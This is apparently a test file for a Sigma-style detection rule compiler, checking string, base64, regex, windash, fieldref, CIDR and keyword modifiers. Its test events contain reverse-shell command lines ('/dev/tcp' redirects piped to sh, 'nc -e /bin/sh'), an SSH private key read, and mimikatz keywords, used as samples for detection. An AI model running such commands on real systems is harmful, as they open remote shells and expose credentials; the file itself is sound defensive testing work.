import { compileRule } from "./compile-rule";
import { compileDetection, connectEvent, execEvent, ruleYaml } from "./test-helpers";

function rejects(detection: unknown): string {
  try {
    compileRule(ruleYaml(detection), "rules/bad.yml");
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error("expected the rule to be rejected");
}

const cmd = (command_line: string) => execEvent({ command_line, executable: "/usr/bin/x" });
const fires = (detection: Record<string, unknown>, doc = cmd("")) =>
  compileDetection({ ...detection, condition: "s" }).matches(doc);

describe("modifiers - string operators and case", () => {
  test("contains / startswith / endswith, case-insensitive by default", () => {
    expect(fires({ s: { "CommandLine|contains": "DEV/TCP" } }, cmd("bash >& /dev/tcp/1.2.3.4/80"))).toBe(
      true,
    );
    expect(fires({ s: { "CommandLine|startswith": "BASH" } }, cmd("bash -i"))).toBe(true);
    expect(fires({ s: { "CommandLine|startswith": "-i" } }, cmd("bash -i"))).toBe(false);
    expect(fires({ s: { "CommandLine|endswith": "-I" } }, cmd("bash -i"))).toBe(true);
  });

  test("cased makes every string operator case-sensitive", () => {
    expect(fires({ s: { "CommandLine|cased": "bash -i" } }, cmd("bash -i"))).toBe(true);
    expect(fires({ s: { "CommandLine|cased": "BASH -i" } }, cmd("bash -i"))).toBe(false);
    expect(fires({ s: { "CommandLine|contains|cased": "Tmp" } }, cmd("ls /Tmp"))).toBe(true);
    expect(fires({ s: { "CommandLine|contains|cased": "Tmp" } }, cmd("ls /tmp"))).toBe(false);
    expect(fires({ s: { "CommandLine|cased|endswith": "X" } }, cmd("a x"))).toBe(false);
  });

  test("escapes: \\* \\? \\\\ are literal, a backslash before anything else stays", () => {
    expect(fires({ s: { CommandLine: "echo \\*" } }, cmd("echo *"))).toBe(true);
    expect(fires({ s: { CommandLine: "echo \\*" } }, cmd("echo x"))).toBe(false);
    expect(fires({ s: { CommandLine: "a\\?" } }, cmd("a?"))).toBe(true);
    expect(fires({ s: { CommandLine: "a\\?" } }, cmd("ab"))).toBe(false);
    expect(fires({ s: { CommandLine: "c:\\\\x" } }, cmd("c:\\x"))).toBe(true);
    expect(fires({ s: { CommandLine: "c:\\dir" } }, cmd("c:\\dir"))).toBe(true);
    expect(fires({ s: { CommandLine: "a?c*" } }, cmd("abcdef"))).toBe(true);
    expect(fires({ s: { CommandLine: "a?c*" } }, cmd("acdef"))).toBe(false);
  });

  test("null is an absent field; '' is an empty (so, in Vigil documents, absent) value", () => {
    expect(fires({ s: { CurrentDirectory: null } }, cmd("x"))).toBe(true);
    expect(fires({ s: { CurrentDirectory: "" } }, cmd("x"))).toBe(true);
    expect(fires({ s: { CommandLine: "" } }, cmd("x"))).toBe(false);
    expect(fires({ s: { "process.title": "" } }, execEvent({ title: "" }))).toBe(true);
    expect(fires({ s: { "process.title": null } }, execEvent({ title: "t" }))).toBe(false);
  });
});

describe("modifiers - windash", () => {
  test("a word-starting - or / matches -, /, en dash, em dash and horizontal bar", () => {
    const rule = { s: { "CommandLine|windash|contains": " -enc " } };
    for (const flag of ["-", "/", "\u2013", "\u2014", "\u2015"])
      expect(fires(rule, cmd(`pwsh ${flag}enc x`))).toBe(true);
    expect(fires(rule, cmd("pwsh +enc x"))).toBe(false);
    // A dash inside a word is not a flag.
    expect(fires({ s: { "CommandLine|windash": "a-b" } }, cmd("a/b"))).toBe(false);
    expect(fires({ s: { "CommandLine|contains|windash": "-x" } }, cmd("run /x"))).toBe(true);
  });

  test("too many flags for windash are refused", () => {
    expect(rejects({ s: { "CommandLine|windash": "-a -b -c -d -e" }, condition: "s" })).toMatch(
      /5 flags for 'windash'/,
    );
  });
});

describe("modifiers - base64 and base64offset", () => {
  const b64 = (text: string) => Buffer.from(text).toString("base64");

  test("base64 matches the encoded value, case-sensitively", () => {
    expect(fires({ s: { "CommandLine|base64": "bash -i" } }, cmd(b64("bash -i")))).toBe(true);
    expect(fires({ s: { "CommandLine|base64": "bash -i" } }, cmd(b64("bash -i").toLowerCase()))).toBe(false);
    expect(
      fires({ s: { "CommandLine|base64|contains": "curl" } }, cmd(`echo ${b64("curl")} | base64 -d`)),
    ).toBe(true);
  });

  test("base64offset|contains finds the value at any of the three byte offsets", () => {
    const rule = { s: { "CommandLine|base64offset|contains": "/dev/tcp/" } };
    for (const prefix of ["", "x", "xy", "xyz", "bash -i >& "]) {
      expect(fires(rule, cmd(`echo ${b64(`${prefix}/dev/tcp/10.0.0.1/4444 0>&1`)} | base64 -d | sh`))).toBe(
        true,
      );
    }
    expect(fires(rule, cmd(`echo ${b64("bash -i >& /dev/udp/1.2.3.4/53")} | base64 -d`))).toBe(false);
  });

  test("utf16le (wide), utf16be and utf16 encode before base64", () => {
    const le = Buffer.from("whoami", "utf16le").toString("base64");
    expect(fires({ s: { "CommandLine|wide|base64": "whoami" } }, cmd(le))).toBe(true);
    expect(fires({ s: { "CommandLine|utf16le|base64offset|contains": "whoami" } }, cmd(`-e ${le}`))).toBe(
      true,
    );
    const be = Buffer.from("whoami", "utf16le").swap16().toString("base64");
    expect(fires({ s: { "CommandLine|utf16be|base64": "whoami" } }, cmd(be))).toBe(true);
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("id", "utf16le")]).toString("base64");
    expect(fires({ s: { "CommandLine|utf16|base64": "id" } }, cmd(bom))).toBe(true);
  });
});

describe("modifiers - re, fieldref, exists, numbers, cidr", () => {
  test("re with i, m, s sub-modifiers", () => {
    expect(fires({ s: { "CommandLine|re": "^BASH" } }, cmd("bash"))).toBe(false);
    expect(fires({ s: { "CommandLine|re|i": "^BASH" } }, cmd("bash"))).toBe(true);
    expect(fires({ s: { "CommandLine|re|m": "^b$" } }, cmd("a\nb"))).toBe(true);
    expect(fires({ s: { "CommandLine|re|s": "a.b" } }, cmd("a\nb"))).toBe(true);
    expect(fires({ s: { "CommandLine|re|i|s": "A.B" } }, cmd("a\nb"))).toBe(true);
    // The literal prefilter must not hide a case-insensitive match.
    expect(fires({ s: { "CommandLine|re|i": "/DEV/TCP/\\d" } }, cmd("x /dev/tcp/1"))).toBe(true);
  });

  test("fieldref compares two fields of the same event", () => {
    const same = execEvent({ executable: "/tmp/x", parent: { executable: "/TMP/X" } });
    const other = execEvent({ executable: "/tmp/x", parent: { executable: "/bin/sh" } });
    expect(fires({ s: { "Image|fieldref": "ParentImage" } }, same)).toBe(true);
    expect(fires({ s: { "Image|fieldref": "ParentImage" } }, other)).toBe(false);
    expect(fires({ s: { "Image|fieldref|cased": "ParentImage" } }, same)).toBe(false);
    const cwd = execEvent({ working_directory: "/home/a", command_line: "cat /home/a/.ssh/id_rsa" });
    expect(fires({ s: { "CommandLine|fieldref|contains": "CurrentDirectory" } }, cwd)).toBe(true);
    expect(fires({ s: { "Image|fieldref": "ParentImage" } }, execEvent({ executable: "/x" }))).toBe(false);
  });

  test("exists, lt/lte/gt/gte, cidr IPv4 and IPv6", () => {
    expect(fires({ s: { "CurrentDirectory|exists": false } }, cmd("x"))).toBe(true);
    expect(fires({ s: { "CommandLine|exists": true } }, cmd("x"))).toBe(true);
    const conn = connectEvent({ destination: { ip: "fd00::1", port: 4444 } });
    const run = (s: unknown) => compileDetection({ s, condition: "s" }, "network_connection").matches(conn);
    expect(run({ "DestinationPort|gt": 1024 })).toBe(true);
    expect(run({ "DestinationPort|gte": 4444 })).toBe(true);
    expect(run({ "DestinationPort|lt": 4444 })).toBe(false);
    expect(run({ "DestinationPort|lte": "4444" })).toBe(true);
    expect(run({ "DestinationIp|cidr": ["10.0.0.0/8", "fd00::/8"] })).toBe(true);
    expect(run({ "DestinationIp|cidr": "fe80::/10" })).toBe(false);
  });
});

describe("modifiers - keywords", () => {
  test("keywords search command lines, paths and names; '|all' needs every keyword", () => {
    const rule = compileDetection({ keywords: ["mimikatz", "/dev/shm/"], condition: "keywords" });
    expect(rule.matches(cmd("run MIMIKATZ now"))).toBe(true);
    expect(rule.matches(execEvent({ executable: "/dev/shm/x" }))).toBe(true);
    expect(rule.matches(cmd("ls"))).toBe(false);
    const all = compileDetection({ keywords: { "|all": ["nc", "-e"] }, condition: "keywords" });
    expect(all.matches(cmd("nc -e /bin/sh"))).toBe(true);
    expect(all.matches(cmd("nc -l"))).toBe(false);
  });
});

describe("modifiers - refused chains name the key and the problem", () => {
  test.each<[Record<string, unknown>, RegExp]>([
    [{ "CommandLine|contains|base64": "x" }, /'contains' must come after 'base64'/],
    [{ "CommandLine|base64offset": "x" }, /'base64offset' needs 'contains'/],
    [{ "CommandLine|base64|utf16le": "x" }, /'utf16le' must come before 'base64'/],
    [{ "CommandLine|wide": "x" }, /'wide' is only valid before 'base64'/],
    [{ "CommandLine|base64|base64offset|contains": "x" }, /'base64' and 'base64offset' cannot be combined/],
    [{ "CommandLine|base64": "ab*" }, /wildcard '\*' in 'ab\*' cannot be base64-encoded/],
    [{ "CommandLine|i|re": "x" }, /'i' must come after 're'/],
    [{ "CommandLine|re|cased": "x" }, /'cased' cannot be combined with 're'/],
    [{ "CommandLine|windash|re": "x" }, /'windash' cannot be combined with 're'/],
    [{ "CommandLine|windash|base64": "x" }, /'windash' and 'base64' cannot be combined/],
    [{ "CommandLine|fieldref": "Nope" }, /fieldref: unknown field 'Nope'/],
    [{ "CommandLine|fieldref|windash": "Image" }, /'fieldref' compares with another field/],
    [{ "CommandLine|contains|all": "x" }, /'\|all' needs a list of two or more values/],
    [{ "CommandLine|utf8": "x" }, /unknown modifier 'utf8' \(known: contains/],
  ])("%j", (selection, message) => {
    expect(rejects({ s: selection, condition: "s" })).toMatch(
      new RegExp(`detection\\.s: .*${message.source}`),
    );
  });
});
